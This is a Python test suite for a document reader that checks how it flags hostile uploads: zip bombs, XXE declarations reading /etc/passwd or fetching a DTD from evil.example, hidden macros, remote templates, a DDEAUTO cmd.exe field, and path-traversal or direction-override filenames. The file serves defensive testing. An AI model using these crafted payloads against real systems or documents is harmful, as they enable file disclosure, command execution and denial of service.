"""Files made to harm or to mislead: each a clear problem, never an exception."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.documents.build import changed, codes, lines, p, pdf, read, related, word, word_xml, zipped
from xianxing.documents.model import FileKind
from xianxing.documents.problems import CODES

EXE = b"MZ\x90\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body>hello</body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def fatal(data: bytes, name: str = "报告.docx", **limits: int) -> str:
    """The one fatal problem's code; nothing of the content may be there."""
    got = read(data, name, **limits)
    assert not (got.blocks or got.notes or got.signatures)
    (found,) = [problem.code for problem in got.problems if problem.fatal]
    return found


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "报告.docx", "empty-file"),
        (EXE, "报告.docx", "mistyped"),
        (HTML, "报告.pdf", "mistyped"),
        (b"just text", "报告.docx", "mistyped"),
        (zipped({"a.txt": b"x"}), "报告.docx", "mistyped"),
        (EXE, "setup.exe", "unsupported-type"),
        (OLE, "报告.doc", "legacy-office"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "报告.docx", "encrypted"),
        (word("正文。")[:-400], "报告.docx", "damaged"),
        (word("正文。")[:2000], "报告.docx", "damaged"),
        (b"%PDF-1.7\n1 0 obj\n<<", "报告.pdf", "damaged"),
        (b"\x00" * 5000, "报告.docx", "damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "扫描件.png", "damaged"),
        (changed(word("x"), {"word/document.xml": b"<w:document"}), "报告.docx", "damaged"),
        (changed(word("x"), {"word/document.xml": None}), "报告.docx", "damaged"),
    ],
)
def test_what_cannot_be_used(data: bytes, name: str, code: str) -> None:
    assert fatal(data, name) == code


def test_a_readable_file_under_a_wrong_name_is_read_and_named() -> None:
    got = read(word("正文。"), "报告.pdf")
    assert (got.kind, got.text, codes(got)) == (FileKind.DOCX, "正文。", {"name-mismatch"})


def test_encrypted_pdf_and_zip() -> None:
    assert fatal(pdf(lines("机要"), encrypt="secret"), "报告.pdf") == "encrypted"
    data = bytearray(zipped({"a.txt": b"x" * 50}, compression=zipfile.ZIP_STORED))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    assert fatal(bytes(data), "附件.zip") == "encrypted"


def test_a_small_docx_that_unpacks_to_gigabytes() -> None:
    bomb = changed(word("x"), {"word/media/a.bin": b"\x00" * 60_000_000})
    assert len(bomb) < 200_000
    assert fatal(bomb) == "zip-bomb"


def lying(data: bytes, name: str, declared: int) -> bytes:
    """The zip with an entry that declares another size than it has."""
    changed_bytes = bytearray(data)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        entry = archive.getinfo(name)
        directory = archive.start_dir
    struct.pack_into("<I", changed_bytes, entry.header_offset + 22, declared)
    at = changed_bytes.index(name.encode(), directory) - 46
    struct.pack_into("<I", changed_bytes, at + 24, declared)
    return bytes(changed_bytes)


def test_declared_sizes_may_lie() -> None:
    bomb = changed(word("x"), {"word/document.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})
    assert fatal(lying(bomb, "word/document.xml", 2000)) == "zip-bomb"


def test_more_bytes_than_a_part_may_have() -> None:
    data = changed(word("x"), {"word/document.xml": b"<a>" + b" " * 600_000 + b"</a>"})
    assert fatal(data, part_bytes=500_000) == "too-large"


def test_too_many_entries_and_overlapping_entries() -> None:
    assert (
        fatal(zipped({f"{number}": b"" for number in range(30)}), "a.zip", archive_entries=20)
        == "too-many-entries"
    )
    data = zipped({"a.txt": b"a" * 100, "b.txt": b"b" * 100}, compression=zipfile.ZIP_STORED)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        directory = archive.start_dir
    twisted = bytearray(data)
    at = twisted.index(b"b.txt", directory) - 46
    struct.pack_into("<I", twisted, at + 42, 5)
    assert fatal(bytes(twisted), "a.zip") == "overlapping-entries"


def test_a_wrong_checksum_is_damage() -> None:
    data = bytearray(zipped({"[Content_Types].xml": b"x" * 40}, compression=zipfile.ZIP_STORED))
    data[data.index(b"xxxx")] ^= 1
    assert fatal(bytes(data), "a.docx") == "damaged"


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "docProps/core.xml", "_rels/.rels"])
def test_document_types_and_entities_are_refused(declaration: str, part: str) -> None:
    def declare(old: bytes) -> bytes:
        start = old.index(b"?>") + 2 if old.startswith(b"<?xml") else 0
        return old[:start] + declaration.encode() + old[start:]

    assert fatal(changed(word("x"), {part: declare})) == "external-entity"


def test_macros_whatever_the_name() -> None:
    with_macros = changed(word("正文。"), {"word/vbaProject.bin": OLE})
    assert "macros" in codes(read(with_macros, "报告.docx"))
    renamed = changed(
        word("正文。"),
        {
            "[Content_Types].xml": lambda old: old.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    got = read(renamed, "报告.docx")
    assert (got.text, codes(got)) == ("正文。", {"macros"})


def test_embedded_objects_and_nested_archives() -> None:
    got = read(changed(word("正文。"), {"word/embeddings/oleObject1.bin": OLE}))
    assert codes(got) == {"embedded-object"}
    got = read(changed(word("正文。"), {"word/media/image1.png": zipped({"a": b"x"})}))
    assert codes(got) == {"nested-archive"}
    got = read(
        zipped({"a.docx": word("x"), "b.zip": zipped({"c": b"x"}), "c.rar": b"Rar!\x1a\x07\x00"}), "附件.zip"
    )
    assert [problem.location for problem in got.problems if problem.code == "nested-archive"] == [
        "b.zip",
        "c.rar",
    ]


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm", "remote-template"),
        ("attachedTemplate", "\\\\10.0.0.1\\share\\a.dotm", "remote-template"),
        ("attachedTemplate", "file:///\\\\10.0.0.1\\a.dotm", "remote-template"),
        ("image", "http://evil.example/track.png", "remote-image"),
        ("oleObject", "file:///c:/a.xlsx", "external-link"),
        ("frame", "http://evil.example/", "external-link"),
        ("hyperlink", "file://server/share/x", "external-link"),
    ],
)
def test_links_that_call_home(kind: str, target: str, code: str) -> None:
    part = "settings" if kind == "attachedTemplate" else "document"
    assert code in codes(read(related(word("正文。"), kind, target, external=True, part=part)))


def test_ordinary_links_and_local_templates_are_no_problem() -> None:
    assert codes(read(related(word("x"), "hyperlink", "https://www.csrc.gov.cn/", external=True))) == set()
    local = related(
        word("x"), "attachedTemplate", "file:///C:/Users/a/公文.dotx", external=True, part="settings"
    )
    got = read(local)
    assert (codes(got), got.metadata["template"]) == (set(), "公文.dotx")


def test_fields_that_fetch_or_run() -> None:
    field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    assert codes(read(word_xml(field))) == {"external-link"}


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a/../../b", "C:\\a.txt", "..\\x.txt"])
def test_names_that_leave_the_folder(name: str) -> None:
    assert codes(read(zipped({"ok.txt": b"x", name: b"x"}), "附件.zip")) & {"unsafe-name", "damaged"}


def test_a_part_of_an_office_file_that_leaves_its_folder() -> None:
    got = read(changed(word("正文。"), {"../../evil.txt": b"x"}))
    assert (codes(got), [block.text for block in got.blocks]) == ({"unsafe-name"}, ["正文。"])


def test_control_and_direction_characters_in_names() -> None:
    assert "control-characters-in-name" in codes(read(word("x"), "报告\u202exslx.docx"))
    assert "control-characters-in-name" in codes(read(word("x"), "报告\n.docx"))
    assert codes(read(word("x"), "合规评估报告（签字）.docx")) == set()


def test_deep_nesting_ends() -> None:
    deep = "<w:sdt><w:sdtContent>" * 120 + p("深") + "</w:sdtContent></w:sdt>" * 120
    assert read(word_xml(deep)).usable


def test_a_text_longer_than_the_limit_is_cut_and_says_so() -> None:
    got = read(word("甲" * 400, "乙" * 400), characters=500)
    assert (got.text, codes(got)) == ("甲" * 400, {"cut"})


def test_every_code_has_a_meaning() -> None:
    assert all(code.meaning.endswith(".") and name == name.lower() for name, code in CODES.items())


SEEDS = [
    word_xml(p("一、概述") + p("签字人：甲")),
    pdf(lines("一、概述", "签字人：甲")),
    zipped({"a.txt": b"abc"}),
]


@settings(max_examples=40)
@given(st.sampled_from(SEEDS), st.data())
def test_no_flipped_or_cut_byte_makes_it_raise(seed: bytes, data: st.DataObject) -> None:
    broken = bytearray(seed)
    for _ in range(data.draw(st.integers(1, 8))):
        broken[data.draw(st.integers(0, len(broken) - 1))] = data.draw(st.integers(0, 255))
    end = data.draw(st.integers(1, len(broken)))
    got = read(bytes(broken[:end]), data.draw(st.sampled_from(["a.docx", "a.pdf", "a.zip", "a.txt"])))
    assert all(problem.code in CODES for problem in got.problems)


@settings(max_examples=40)
@given(
    st.binary(max_size=300),
    st.sampled_from(["word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels"]),
)
def test_no_content_of_a_part_makes_it_raise(content: bytes, part: str) -> None:
    got = read(changed(SEEDS[0], {part: content}))
    assert all(problem.code in CODES for problem in got.problems)


def test_bombs_by_other_compression_are_refused() -> None:
    assert (
        fatal(zipped({"[Content_Types].xml": b"x" * 5000}, compression=zipfile.ZIP_LZMA), "a.docx")
        == "damaged"
    )


def test_macros_under_another_name_are_told_by_the_type_that_the_package_gives_them() -> None:
    kind = (
        b'<Override PartName="/word/data7.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    hidden = changed(
        word("正文。"),
        {
            "word/data7.bin": OLE,
            "[Content_Types].xml": lambda old: old.replace(b"</Types>", kind),
        },
    )
    assert "macros" in codes(read(hidden, "报告.docx"))
